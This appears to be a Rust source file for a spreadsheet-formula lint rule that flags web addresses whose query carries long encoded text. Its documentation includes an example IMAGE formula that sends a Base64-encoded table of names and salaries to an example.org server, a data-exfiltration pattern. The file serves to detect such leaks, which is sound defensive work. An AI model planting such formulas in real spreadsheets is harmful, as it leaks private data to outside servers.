use crate::ast::NodeId;
use crate::link;
use crate::rule::{Check, Context, Findings, declare_rule};

declare_rule! {
    /// *Flags an address whose query carries a long encoded text.*
    ///
    /// **Why** Nobody can read what such a text says, and it is the form in which data is carried
    /// out: the server gets it with the address.
    ///
    /// **Example**
    /// ```formula
    /// =IMAGE("https://example.org/p.gif?d=TmFtZSxTYWxhcnkKSmFuZSBEb2UsOTUwMDAKSm9obiBEb2UsODcwMDAKTWF4IE11c3RlciwxMDIwMDAKRXJpa2EgTXVzdGVyLDk5MDAw")
    /// ```
    ///
    /// **Instead**
    /// ```formula
    /// =IMAGE("https://example.org/p.gif?size=large&colour=green")
    /// =IMPORTDATA("https://example.org/search?q=how+long+is+the+longest+river+of+the+whole+world+and+where+does+it+end+and+who+has+found+its+source")
    /// ```
    ///
    /// **Limits** Only the length and the letters of a value are looked at. What is encoded is not
    /// said.
    "encoded-url-data" {
        category: Security,
        severity: Low,
        presets: [Security],
        settings: ["max": 80 "How many characters an encoded value in an address may have."],
        sees: Template,
        check: Check::Calls(link::WITH_ADDRESS, check),
    }
}

fn check(context: &Context<'_>, call: NodeId, findings: &mut Findings<'_>) {
    let max = context.setting(0) as usize;
    for written in link::written_addresses(context, call) {
        let Some(address) = written.with_host() else {
            continue;
        };
        let values = address.rest.split(['?', '&', '#', ';']).skip(1);
        let mut values = values.map(|pair| pair.split_once('=').map_or(pair, |(_, value)| value));
        let is_long = values.any(|value| value.len() > max && is_encoded(value));
        if is_long && !findings.has_reported_at(written.span) {
            findings.report(
                written.span,
                format!(
                    "A value in this address is an encoded text of more than {max} characters, so \
                     nobody can read what is sent to the server. Send only what is known and \
                     wanted."
                ),
            );
        }
    }
}

/// Whether the value is written in hexadecimal digits, in Base64 or almost wholly in codes: letters
/// and digits without anything that parts words.
fn is_encoded(value: &str) -> bool {
    let codes = value.matches('%').count() * 3;
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '=' | '/' | '-' | '_');
    let parted = value.matches(['-', '_', '/']).count() * 12 > value.len();
    let plain = value
        .replace("%2B", "")
        .replace("%2F", "")
        .replace("%3D", "");
    codes * 2 > value.len() || !parted && plain.chars().all(is_plain)
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::rules::testing::flagged;

    #[test]
    fn a_text_in_pieces_counts_as_one() {
        let (one, other) = ("4a".repeat(30), "6f".repeat(30));
        let formula = format!("=IMAGE(\"https://a.example/?d={one}\"&\"{other}\")");
        assert_eq!(flagged(&RULE, &formula).len(), 1);
        let codes = format!("=IMAGE(\"https://a.example/?{}\")", "%41".repeat(30));
        assert_eq!(flagged(&RULE, &codes).len(), 1);
    }

    #[test]
    fn a_long_path_is_no_query() {
        let formula = format!("=IMAGE(\"https://a.example/{}.png\")", "4a".repeat(60));
        assert!(flagged(&RULE, &formula).is_empty());
    }
}
